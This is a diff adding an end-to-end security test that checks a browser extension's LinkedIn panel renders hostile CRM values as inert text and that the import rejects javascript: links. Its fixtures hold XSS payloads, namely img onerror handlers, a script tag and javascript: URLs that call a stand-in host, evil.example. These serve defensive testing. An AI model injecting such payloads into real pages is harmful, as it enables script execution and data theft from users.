@@ -1,0 +1,128 @@
+/**
+ * Hostile CRM values, put in through the admin import (the real path into the server's data),
+ * render in the LinkedIn panel as inert text: no element is created from them, no handler runs,
+ * no request leaves, no `javascript:` link exists. The server's import also refuses a
+ * `javascript:` URL where it stores links (the contact's LinkedIn URL).
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Request } from 'playwright-core';
+import { builtContentScripts, capturesAvailable, CAPTURES_DIR, startHarness, type Harness } from './harness.ts';
+import { PANEL_HOST, panelText, waitForBrief } from './linkedin-panel.ts';
+
+const ready = capturesAvailable() && builtContentScripts() > 0;
+if (!ready) console.warn(`linkedin-xss.e2e: skipped (captures at ${CAPTURES_DIR} and a built content script are needed)`);
+
+const URL_ = 'https://www.linkedin.com/in/nikospetrakis/';
+const CAPTURE = '2024-08-20--profile--near-empty.html';
+const DOMAIN = 'siac-research.se';
+/** Each would set a main-world global and call out if it ran as markup. */
+const hostile = (label: string) => `<img src=x onerror="window.__xss=(window.__xss||[]).concat('${label}');fetch('https://evil.example/${label}')">`;
+const TITLE = hostile('title');
+const ACCOUNT = `SIAC ${hostile('account')}`;
+const DEAL = `<script>window.__xss=['deal'];fetch('https://evil.example/deal')</script>Pilot`;
+const NEXT_STEP = "javascript:fetch('https://evil.example/next-step')";
+
+interface ImportReport {
+  summary: { created: number; updated: number; rejected: number };
+  errors: { row: number; column: string; message: string }[];
+}
+
+describe.skipIf(!ready)('LinkedIn panel with hostile CRM values', () => {
+  let h: Harness;
+  const importRows = async (entity: string, rows: Record<string, string>[]): Promise<ImportReport> => {
+    const response = await fetch(`${h.serverUrl}/v1/import/${entity}`, {
+      method: 'POST',
+      headers: { Authorization: `Bearer ${h.adminToken}`, 'Content-Type': 'application/json' },
+      body: JSON.stringify({ rows }),
+    });
+    expect(response.status).toBe(200);
+    return (await response.json()) as ImportReport;
+  };
+
+  beforeAll(async () => {
+    h = await startHarness();
+    await h.connectAsDemoRep();
+  });
+  afterAll(async () => {
+    await h?.stop();
+  });
+
+  it('imports the hostile values (the server stores text as text)', async () => {
+    expect((await importRows('contacts', [{ name: 'Nikos Petrakis', linkedin_url: URL_, title: TITLE }])).summary.updated).toBe(1);
+    expect((await importRows('accounts', [{ name: ACCOUNT, domains: DOMAIN }])).summary.updated).toBe(1);
+    const deal = { external_id: 'e2e-xss-deal', account_domain: DOMAIN, name: DEAL, stage: 'proposal', amount: '1000', close_date: '2030-01-15', next_step: NEXT_STEP };
+    expect((await importRows('deals', [deal])).summary.created).toBe(1);
+  });
+
+  it('refuses a javascript: URL in a link column at import', async () => {
+    const report = await importRows('contacts', [{ name: 'Mallory Example', linkedin_url: 'javascript:alert(1)' }]);
+    expect(report.summary.rejected).toBe(1);
+    expect(JSON.stringify(report.errors)).toContain('linkedin_url');
+  });
+
+  it('renders them as inert text: no element, no script, no request, no javascript: link', async () => {
+    await h.routeLinkedIn(URL_, CAPTURE);
+    const requests: string[] = [];
+    const onRequest = (request: Request) => requests.push(request.url());
+    h.context.on('request', onRequest);
+    const dialogs: string[] = [];
+    const page = await h.context.newPage();
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    try {
+      await page.goto(URL_);
+      await waitForBrief(page);
+      const panel = page.locator(`${PANEL_HOST} [data-panel="brief"]`);
+      // Wait for the server's brief (the hostile title), not a cached one.
+      await panel.locator('header p').getByText(`${TITLE} at ${ACCOUNT}`, { exact: true }).waitFor({ timeout: 30_000 });
+      const text = await panelText(page);
+      expect(text).toContain(`Next: ${NEXT_STEP}`);
+      expect(text).toContain(DEAL);
+
+      const inPanel = await page.evaluate((host) => {
+        const root = document.querySelector(host)?.shadowRoot;
+        return {
+          elements: root ? [...root.querySelectorAll('img, script, iframe, object, embed')].map((e) => e.tagName) : ['no shadow root'],
+          hrefs: root ? [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')) : [],
+          handlers: root ? [...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on'))) : [],
+        };
+      }, PANEL_HOST);
+      expect(inPanel.elements).toEqual([]);
+      expect(inPanel.handlers).toEqual([]);
+      expect(inPanel.hrefs.filter((href) => !/^https?:/i.test(href ?? ''))).toEqual([]);
+
+      // Give a handler that would run on the image error a moment's chance, then check nothing ran.
+      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 500))));
+      expect(await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss ?? null)).toBeNull();
+      expect(dialogs).toEqual([]);
+      expect(requests.filter((url) => url.includes('evil.example') || /\/x(\?|$)/.test(url))).toEqual([]);
+    } finally {
+      h.context.off('request', onRequest);
+      await page.close();
+    }
+  });
+
+  it('control: the same checks catch the payload when it is parsed as markup on this page', async () => {
+    const requests: string[] = [];
+    const onRequest = (request: Request) => requests.push(request.url());
+    h.context.on('request', onRequest);
+    const page = await h.context.newPage();
+    try {
+      await page.goto(URL_);
+      await page.evaluate((html) => {
+        const div = document.createElement('div');
+        // The control: markup parsed on purpose, to prove the checks above would see it run.
+        // eslint-disable-next-line no-restricted-syntax
+        div.innerHTML = html;
+        document.body.append(div);
+      }, TITLE);
+      await page.waitForFunction(() => (window as unknown as { __xss?: string[] }).__xss?.includes('title'), undefined, { timeout: 10_000 });
+      await expect.poll(() => requests.filter((url) => url.includes('evil.example')).length, { timeout: 10_000 }).toBe(1);
+    } finally {
+      h.context.off('request', onRequest);
+      await page.close();
+    }
+  });
+});
